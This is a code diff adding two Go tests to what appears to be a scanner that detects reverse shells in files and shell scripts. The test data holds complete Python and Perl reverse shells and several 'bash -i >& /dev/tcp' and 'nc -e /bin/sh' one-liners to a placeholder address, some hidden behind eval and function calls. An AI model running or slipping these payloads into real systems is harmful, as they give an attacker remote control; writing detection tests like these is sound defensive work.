@@ -296,3 +296,56 @@ func TestSudoersWriteSeverity(t *testing.T) {
 		})
 	}
 }
+
+// TestBigTextReadAroundImports holds the reading of big texts (past smallText, holding an
+// anchor) as code: a Python or Perl reverse shell appended to a big text is found from its
+// imports, and the text's prose elsewhere, which names the same modules, is not read as code.
+func TestBigTextReadAroundImports(t *testing.T) {
+	var prose strings.Builder
+	for i := 0; prose.Len() < 3*smallText; i++ {
+		fmt.Fprintf(&prose, "Package: lib%d-perl\nDescription: a library, 'sh -c' quoted\n\n", i)
+		if i%500 == 7 {
+			prose.WriteString("Description: wraps IO::Socket::INET and \"import socket\" for programs\n\n")
+		}
+	}
+	python := "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((\"203.0.113.9\",4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\nsubprocess.call(\"/bin/sh -i\",shell=True)\n"
+	perl := "use Socket;\n$i=\"203.0.113.9\";$p=4444;\nsocket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));\nif(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};\n"
+	for _, tc := range []struct{ name, text, want string }{
+		{"python at the end", prose.String() + python, RulePython},
+		{"python in the middle", prose.String()[:smallText*2] + python + prose.String(), RulePython},
+		{"perl at the end", prose.String() + perl, RulePerl},
+	} {
+		fs := scanFile("/var/lib/misc/notes.txt", tc.text)
+		if !slices.Contains(rules(fs), tc.want) {
+			t.Errorf("%s: got %v, want %s\n%s", tc.name, rules(fs), tc.want, dump(fs))
+		}
+	}
+	if fs := scanFile("/var/lib/dpkg/status", prose.String()); len(fs) != 0 {
+		t.Errorf("prose naming modules: %s", dump(fs))
+	}
+	// The prose is read around its few mentions only.
+	n := 0
+	for _, w := range langWindows([]byte(prose.String()), "python") {
+		n += len(w)
+	}
+	if n == 0 || n > prose.Len()/2 {
+		t.Errorf("windows cover %d bytes of %d", n, prose.Len())
+	}
+}
+
+// TestFunctionCallsRunAgainWhenStateChanges holds the memo of shell function calls: a call
+// is passed over only when its arguments, the variables its body (and what it calls) reads
+// and the files the script wrote are as they were at an earlier call.
+func TestFunctionCallsRunAgainWhenStateChanges(t *testing.T) {
+	for _, tc := range []struct{ name, text, want string }{
+		{"variable set between calls", "#!/bin/sh\nrun() { eval \"$CMD\"; }\nCMD=true\nrun\nrun\nCMD='bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\nrun\n", RuleDevTCP},
+		{"variable read by a called function", "#!/bin/sh\ng() { eval \"$C\"; }\nf() { g; }\nf\nf\nC='nc -e /bin/sh 203.0.113.9 4444'\nf\n", RuleNetExec},
+		{"file written between calls", "#!/bin/sh\nf() { sh \"$1\"; }\nfor i in 1 2 3; do f /tmp/.x; done\necho 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' > /tmp/.x\nf /tmp/.x\n", RuleDevTCP},
+		{"same call in a loop, payload as an argument", "#!/bin/sh\nx() { eval \"$1\"; }\nfor i in 1 2 3 4 5 6 7 8 9 10; do x true; done\nx 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\n", RuleDevTCP},
+		{"arithmetic reads a variable", "#!/bin/sh\nf() { if (( n > 2 )); then eval \"$P\"; fi; }\nP='nc -e /bin/sh 203.0.113.9 4444'\nn=1; f\nn=3; f\n", RuleNetExec},
+	} {
+		if got := rules(scanFile("/usr/local/bin/t", tc.text)); !slices.Contains(got, tc.want) {
+			t.Errorf("%s: got %v, want %s", tc.name, got, tc.want)
+		}
+	}
+}
